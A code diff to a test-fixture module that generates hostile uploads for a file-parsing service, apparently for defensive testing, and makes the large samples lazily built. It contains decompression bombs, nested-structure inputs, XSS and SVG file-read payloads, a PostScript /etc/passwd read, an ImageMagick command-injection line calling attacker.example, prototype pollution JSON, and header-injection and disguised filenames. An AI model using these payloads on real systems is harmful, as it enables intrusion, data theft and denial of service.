@@ -4,16 +4,17 @@ import ExcelJS from 'exceljs';
 import { onePagePdf } from '#features/demo/one-page-pdf.server.ts';
 import { aPicture } from './a-picture.server.ts';
 import { aZip } from './a-zip.server.ts';
+import { aHostileFile, type Bytes, type HostileFile } from './hostile-file.server.ts';
 import { hostilePdfs } from './hostile-pdfs.server.ts';
 import { entities, hostileWorkbooks } from './hostile-workbooks.server.ts';
-
-export type HostileFile = { what: string; name: string; bytes: Buffer };
 
 const MB = 1024 * 1024;
 const of = (text: string) => Buffer.from(text);
 
+export type GoodFile = { what: string; name: string; bytes: Buffer };
+
 /** Good files, from which damaged ones are made. The test sends these, too. */
-export async function goodFiles(): Promise<HostileFile[]> {
+export async function goodFiles(): Promise<GoodFile[]> {
   const book = new ExcelJS.Workbook();
   book.addWorksheet('Items').addRows([
     ['Position', 'Item', 'Quantity', 'Description', 'Unit'],
@@ -77,7 +78,7 @@ function chunk(type: string, data: Buffer, length = data.length): Buffer {
 }
 
 function pictures(good: (what: string) => Buffer): HostileFile[] {
-  const bomb = deflateSync(Buffer.alloc(64 * MB));
+  const bomb = () => deflateSync(Buffer.alloc(64 * MB));
   const named = of('a\0\0');
   const jpeg = good('a JPEG');
   const sof = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
@@ -131,10 +132,10 @@ function pictures(good: (what: string) => Buffer): HostileFile[] {
       ['an unknown color type', 'a.png', pngOf(100, 100, [], [8, 77, 9, 9, 9])],
       ['a palette without colors', 'a.png', pngOf(100, 100, [], [8, 3, 0, 0, 0])],
       ['a chunk longer than the file', 'a.png', pngOf(100, 100, [chunk('tEXt', of('a'), 0x7fff_ffff)])],
-      ['a color profile of 64 MB', 'a.png', pngOf(100, 100, [chunk('iCCP', Buffer.concat([named, bomb]))])],
-      ['a text of 64 MB', 'a.png', pngOf(100, 100, [chunk('zTXt', Buffer.concat([named, bomb]))])],
-      ['64 MB of points for a small picture', 'a.png', pngOf(50, 50, [chunk('IDAT', bomb)])],
-      ['5,000 empty chunks', 'a.png', pngOf(50, 50, Array(5000).fill(chunk('tEXt', of('a\0b'))) as Buffer[])],
+      ['a color profile of 64 MB', 'a.png', () => pngOf(100, 100, [chunk('iCCP', Buffer.concat([named, bomb()]))])],
+      ['a text of 64 MB', 'a.png', () => pngOf(100, 100, [chunk('zTXt', Buffer.concat([named, bomb()]))])],
+      ['64 MB of points for a small picture', 'a.png', () => pngOf(50, 50, [chunk('IDAT', bomb())])],
+      ['5,000 empty chunks', 'a.png', () => pngOf(50, 50, Array(5000).fill(chunk('tEXt', of('a\0b'))) as Buffer[])],
       ['nothing but a beginning', 'a.png', pngOf(1, 1).subarray(0, 8)],
       ['a JPEG of 65,500 × 65,500', 'a.jpg', changed(jpeg, (copy) => copy.writeUInt32BE(0xffdc_ffdc, sof + 5))],
       ['a JPEG without height', 'a.jpg', changed(jpeg, (copy) => copy.writeUInt16BE(0, sof + 5))],
@@ -142,12 +143,12 @@ function pictures(good: (what: string) => Buffer): HostileFile[] {
       [
         'a JPEG of 3,000 scans',
         'a.jpg',
-        Buffer.concat([jpeg.subarray(0, -2), ...(Array(3000).fill(scan) as Buffer[])]),
+        () => Buffer.concat([jpeg.subarray(0, -2), ...(Array(3000).fill(scan) as Buffer[])]),
       ],
       ['a JPEG that begins only', 'a.jpg', Buffer.from([0xff, 0xd8, 0xff, 0xe0])],
-      ['a JPEG of fill bytes', 'a.jpg', Buffer.concat([Buffer.from([0xff, 0xd8]), Buffer.alloc(5 * MB, 0xff)])],
+      ['a JPEG of fill bytes', 'a.jpg', () => Buffer.concat([Buffer.from([0xff, 0xd8]), Buffer.alloc(5 * MB, 0xff)])],
       ['a GIF of 65,535 × 65,535', 'a.gif', gif(65_535, 65_535, 1)],
-      ['a GIF of 20,000 frames', 'a.gif', gif(100, 100, 20_000)],
+      ['a GIF of 20,000 frames', 'a.gif', () => gif(100, 100, 20_000)],
       ['a GIF without frames', 'a.gif', gif(100, 100, 0)],
       ['a TIFF whose directory follows itself', 'a.tif', tiff(size(100, 100), 8)],
       ['a TIFF of 60,000 × 60,000', 'a.tif', tiff(size(60_000, 60_000), 0)],
@@ -162,26 +163,26 @@ function pictures(good: (what: string) => Buffer): HostileFile[] {
       ['a drawing that runs', 'a.svg', svg('<script>window.hacked=1</script>')],
       ['a drawing called a picture', 'a.png', svg('<image href="file:///etc/passwd"/>')],
       ['a drawing of entities', 'a.svg', of(`${entities()}<svg>&e9;</svg>`)],
-      ['a drawing nested without end', 'a.png', svg('<g>'.repeat(200_000))],
+      ['a drawing nested without end', 'a.png', () => svg('<g>'.repeat(200_000))],
       ['PostScript', 'a.eps', of('%!PS\n(/etc/passwd) (r) file run')],
       ['an ImageMagick script', 'a.png', of('push graphic-context\nfill \'url(https://attacker.example/a"|id")\'')],
       ['a picture for a phone', 'a.heic', of('\0\0\0\u0018ftypheic\0\0\0\0')],
-    ] as [string, string, Buffer][]
-  ).map(([what, name, bytes]) => ({ what, name, bytes }));
+    ] as [string, string, Bytes][]
+  ).map(([what, name, bytes]) => aHostileFile(what, name, bytes));
 }
 
 function texts(): HostileFile[] {
   const HEAD = 'Item,Description,Unit\n';
   return (
     [
-      ['20 MB in one line', 'a.csv', of('a'.repeat(20 * MB))],
-      ['a million columns', 'a.csv', of(','.repeat(1_000_000))],
-      ['a quote that never ends', 'a.csv', of(`${HEAD}"${'a,\n'.repeat(500_000)}`)],
-      ['nothing but quotes', 'a.csv', of('"'.repeat(500_001))],
-      ['quotes in quotes', 'a.csv', of(`${HEAD}${'"a""b"c"",'.repeat(50_000)}`)],
-      ['a million blank lines', 'a.csv', of('\n'.repeat(1_000_000))],
-      ['three million lines', 'a.csv', of(`${HEAD}${'a\n'.repeat(3_000_000)}`)],
-      ['zeros', 'a.csv', Buffer.alloc(1_000_000)],
+      ['20 MB in one line', 'a.csv', () => of('a'.repeat(20 * MB))],
+      ['a million columns', 'a.csv', () => of(','.repeat(1_000_000))],
+      ['a quote that never ends', 'a.csv', () => of(`${HEAD}"${'a,\n'.repeat(500_000)}`)],
+      ['nothing but quotes', 'a.csv', () => of('"'.repeat(500_001))],
+      ['quotes in quotes', 'a.csv', () => of(`${HEAD}${'"a""b"c"",'.repeat(50_000)}`)],
+      ['a million blank lines', 'a.csv', () => of('\n'.repeat(1_000_000))],
+      ['three million lines', 'a.csv', () => of(`${HEAD}${'a\n'.repeat(3_000_000)}`)],
+      ['zeros', 'a.csv', () => Buffer.alloc(1_000_000)],
       ['bytes that are no text', 'a.csv', Buffer.alloc(100_000, 0xfe)],
       ['half letters of UTF-16', 'a.csv', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.alloc(9999, 0xd8)])],
       ['only a byte order mark', 'a.csv', Buffer.from([0xef, 0xbb, 0xbf])],
@@ -190,18 +191,18 @@ function texts(): HostileFile[] {
       ['the same heading a thousand times', 'a.csv', of(`${'Item,'.repeat(1000)}\n`)],
       ['names of the language', 'a.csv', of('__proto__,constructor,toString\n1,2,3\n')],
       ['markup', 'a.csv', of(`${HEAD}<script>window.hacked=1</script>,<img src=x>,'\n`)],
-      ['64 MB packed', 'a.csv', gzipSync(Buffer.alloc(64 * MB, 'a,b\n'))],
+      ['64 MB packed', 'a.csv', () => gzipSync(Buffer.alloc(64 * MB, 'a,b\n'))],
       ['packed and broken off', 'a.csv', gzipSync(of(HEAD.repeat(9999))).subarray(0, 60)],
       ['packed ten times', 'a.csv', Array.from({ length: 10 }).reduce<Buffer>((bytes) => gzipSync(bytes), of(HEAD))],
-      ['lists nested without end', 'a.json', of('['.repeat(500_000))],
-      ['objects nested without end', 'a.json', of(`${'{"items":'.repeat(100_000)}1${'}'.repeat(100_000)}`)],
+      ['lists nested without end', 'a.json', () => of('['.repeat(500_000))],
+      ['objects nested without end', 'a.json', () => of(`${'{"items":'.repeat(100_000)}1${'}'.repeat(100_000)}`)],
       ['a prototype', 'a.json', of('{"__proto__":{"admin":true},"configId":"a","items":[{"__proto__":{"qty":1}}]}')],
       [
         'numbers beyond numbers',
         'a.json',
         of(`{"configId":"a","items":[{"itemNumber":"a","qty":1e999},{"qty":${'9'.repeat(5000)}}]}`),
       ],
-      ['half a million items', 'a.json', of(`{"configId":"a","items":[${'{},'.repeat(500_000)}{}]}`)],
+      ['half a million items', 'a.json', () => of(`{"configId":"a","items":[${'{},'.repeat(500_000)}{}]}`)],
       ['JSON broken off', 'a.json', of('{"configId":"a","items":[{"itemNumber":')],
       [
         'a place far out',
@@ -213,14 +214,15 @@ function texts(): HostileFile[] {
       [
         'an area of 300,000 corners that cross',
         'a.geojson',
-        of(
-          `{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"ZCTA5CE20":"60601"},"geometry":{"type":"Polygon","coordinates":[[${Array.from({ length: 300_000 }, (_, at) => `[${-88 + (at % 2)},${40 + (at % 997) / 1000}]`).join()}]]}}]}`,
-        ),
+        () =>
+          of(
+            `{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"ZCTA5CE20":"60601"},"geometry":{"type":"Polygon","coordinates":[[${Array.from({ length: 300_000 }, (_, at) => `[${-88 + (at % 2)},${40 + (at % 997) / 1000}]`).join()}]]}}]}`,
+          ),
       ],
       [
         'places nested without end',
         'a.geojson',
-        of(`{"type":"FeatureCollection","features":[{"geometry":{"coordinates":${'['.repeat(200_000)}`),
+        () => of(`{"type":"FeatureCollection","features":[{"geometry":{"coordinates":${'['.repeat(200_000)}`),
       ],
       ['a shell script', 'a.txt', of('#!/bin/sh\nid\n')],
       ['a page', 'a.html', of('<!doctype html><script>window.hacked=1</script>')],
@@ -229,8 +231,8 @@ function texts(): HostileFile[] {
       ['a name with a line end', 'a\r\nSet-Cookie: a=b.csv', of(HEAD)],
       ['a name that reads backwards', 'a\u202evsc.exe', of(HEAD)],
       ['a name of 5,000 letters', `${'a'.repeat(5000)}.csv`, of(HEAD)],
-    ] as [string, string, Buffer][]
-  ).map(([what, name, bytes]) => ({ what, name, bytes }));
+    ] as [string, string, Bytes][]
+  ).map(([what, name, bytes]) => aHostileFile(what, name, bytes));
 }
 
 export async function hostileFiles(): Promise<HostileFile[]> {
@@ -238,10 +240,10 @@ export async function hostileFiles(): Promise<HostileFile[]> {
   const byName = (what: string) => good.find((file) => file.what === what)?.bytes ?? Buffer.alloc(0);
   return [
     ...good.flatMap(({ what, name, bytes }) =>
-      DAMAGE.map(([how, change]) => ({ what: `${what}, ${how}`, name, bytes: change(bytes) })),
+      DAMAGE.map(([how, change]) => aHostileFile(`${what}, ${how}`, name, change(bytes))),
     ),
     ...good.flatMap(({ what, name: own, bytes }) =>
-      NAMES.filter((name) => name !== own).map((name) => ({ what: `${what}, called ${name}`, name, bytes })),
+      NAMES.filter((name) => name !== own).map((name) => aHostileFile(`${what}, called ${name}`, name, bytes)),
     ),
     ...pictures(byName),
     ...hostilePdfs(),
